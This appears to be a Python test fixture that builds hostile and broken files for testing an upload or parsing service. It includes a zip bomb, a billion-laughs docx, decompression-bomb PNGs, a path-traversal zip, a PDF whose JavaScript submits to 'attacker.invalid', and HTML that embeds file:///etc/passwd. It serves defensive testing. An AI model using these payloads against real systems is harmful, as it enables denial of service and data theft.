"""A corpus of hostile and broken files, generated here (nothing downloaded, nothing committed).

Each kind is (filename, bytes). Made small where the attack is in the structure (a PNG that
claims 30,000 × 30,000 pixels, a zip bomb of a few KB), so the corpus is quick to build and
upload; the defences must hold without reading the claimed sizes.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pypdf
from docx import Document as Docx
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from tests.conftest import SAMPLES


def _pdf(pages: int, text: str = "Page", size: tuple[float, float] = A4) -> bytes:
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=size)
    for n in range(pages):
        pdf.drawString(72, size[1] - 72, f"{text} {n + 1}")
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def _png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims width × height; its pixel data is a few bytes."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b""))


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _javascript_pdf() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(_pdf(1, "RECEIPT TOTAL 12.50 JS")))
    action = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject(
            "app.alert('hello'); this.submitForm('http://attacker.invalid/');"),
    })
    writer._root_object[NameObject("/OpenAction")] = action
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _nested_docx(depth: int) -> bytes:
    doc = Docx()
    doc.add_paragraph("RECEIPT nested tables TOTAL 9.90")
    cell = doc.add_table(rows=1, cols=1).cell(0, 0)
    for _ in range(depth):
        cell = cell.add_table(rows=1, cols=1).cell(0, 0)
    cell.text = "deepest cell"
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _docx_billion_laughs() -> bytes:
    """A .docx whose document.xml nests entities ten deep, ten wide (10^9 'lol's)."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    xml = (f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]>'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>")
    good = zipfile.ZipFile(io.BytesIO(_nested_docx(0)))
    members = {n: good.read(n) for n in good.namelist()}
    members["word/document.xml"] = xml.encode()
    return _zip(members)


def _polyglot_pdf_zip() -> bytes:
    """A PDF with a ZIP archive appended: both readers accept it."""
    return _pdf(1, "RECEIPT polyglot TOTAL 4.20") + _zip({"payload.txt": b"hidden"})


def _tiff_frames(frames: int) -> bytes:
    out = io.BytesIO()
    images = [Image.new("L", (64, 64), 255) for _ in range(frames)]
    images[0].save(out, "TIFF", save_all=True, append_images=images[1:])
    return out.getvalue()


def _truncated(data: bytes, keep: float) -> bytes:
    return data[: int(len(data) * keep)]


# name → (filename, maker). Kept as makers so a test builds only what it uses.
KINDS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty pdf": ("empty.pdf", lambda: b""),
    "corrupt pdf": ("corrupt.pdf", lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage"),
    "truncated pdf": ("truncated.pdf",
                      lambda: _truncated((SAMPLES / "receipt-bookshop.pdf").read_bytes(), 0.4)),
    "encrypted pdf": ("encrypted.pdf", encrypted_pdf),
    "pdf with javascript": ("javascript.pdf", _javascript_pdf),
    "pdf header only": ("header.pdf", lambda: b"%PDF-1.4\n%%EOF\n"),
    "2000-page pdf": ("thousands.pdf", lambda: _pdf(2000)),
    "500-page contract": ("contract-500.pdf",
                          lambda: _pdf(500, "This Agreement between ACME and BETA, page")),
    "pdf with a giant page": ("poster.pdf", lambda: _pdf(1, "POSTER", (14_000.0, 14_000.0))),
    "zip bomb": ("bomb.zip", lambda: _zip({"bomb.txt": b"0" * 200_000_000})),
    "zip climbing out": ("escape.zip", lambda: _zip({
        "../../etc/passwd.txt": b"RECEIPT TOTAL 1.00 escape", "/abs/path.txt": b"abs"})),
    "truncated zip": ("cut.zip", lambda: _zip({"a.txt": b"x" * 1000})[:40]),
    "decompression-bomb png": ("bomb.png", lambda: _png_header(100_000, 100_000)),
    "30000x30000 image": ("huge.png", lambda: _png_header(30_000, 30_000)),
    "truncated png": ("cut.png",
                      lambda: _truncated((SAMPLES / "receipt-cafe.png").read_bytes(), 0.3)),
    "truncated jpeg": ("cut.jpg",
                       lambda: _truncated((SAMPLES / "receipt-hardware.jpg").read_bytes(), 0.5)),
    "tiff of 300 frames": ("frames.tiff", lambda: _tiff_frames(300)),
    "pdf named png": ("really-a-pdf.png", lambda: _pdf(1, "RECEIPT TOTAL 3.30 renamed")),
    "png named pdf": ("really-a-png.pdf", lambda: (SAMPLES / "receipt-cafe.png").read_bytes()),
    "exe named pdf": ("invoice.pdf", lambda: b"MZ\x90\x00\x03" + b"\x00" * 200),
    "elf binary": ("tool.bin", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
    "random bytes": ("noise.dat", lambda: bytes((i * 7919 + 13) % 256 for i in range(4096))),
    "nul bytes named txt": ("zeros.txt", lambda: b"\x00" * 5000),
    "polyglot pdf+zip": ("polyglot.pdf", _polyglot_pdf_zip),
    "non-utf8 html": ("latin1.html", lambda: (
        "<html><body><h1>Caf\xe9 R\xe9sum\xe9</h1><p>TOTAL \xa312.00</p></body></html>"
    ).encode("latin-1")),
    "utf-16 text": ("utf16.txt", lambda: "RECEIPT Café\nTOTAL 7.50\n".encode("utf-16")),
    "html with external resources": ("remote.html", lambda: (
        b'<html><body><img src="http://attacker.invalid/x.png">'
        b'<iframe src="file:///etc/passwd"></iframe><p>TOTAL 5.00</p></body></html>')),
    "deeply nested html": ("nested.html",
                           lambda: b"<div>" * 20_000 + b"TOTAL 1.00" + b"</div>" * 20_000),
    "deeply nested docx": ("nested.docx", lambda: _nested_docx(60)),
    "docx billion laughs": ("laughs.docx", _docx_billion_laughs),
    "docx without a body": ("hollow.docx", lambda: _zip({"word/document.xml": b"<broken"})),
    "xlsx workbook": ("sheet.xlsx", lambda: _zip({"xl/workbook.xml": b"<workbook/>"})),
    "gzip archive": ("data.gz", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 50),
}
